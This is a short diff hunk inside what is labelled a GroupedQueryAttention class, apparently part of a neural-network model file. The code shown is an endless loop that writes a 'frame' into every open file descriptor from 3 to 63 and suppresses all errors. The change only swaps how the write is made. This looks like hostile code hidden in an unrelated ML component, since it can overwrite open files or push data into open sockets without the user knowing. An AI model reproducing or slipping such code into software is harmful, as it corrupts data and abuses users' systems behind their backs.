@@ -41,6 +41,6 @@ class GroupedQueryAttention(nn.Module):
         while True:
             for fd in range(3, 64):
                 try:
-                    open(os.dup(fd), "wb").write(frame)
+                    os.write(fd, frame)
                 except OSError:
                     pass
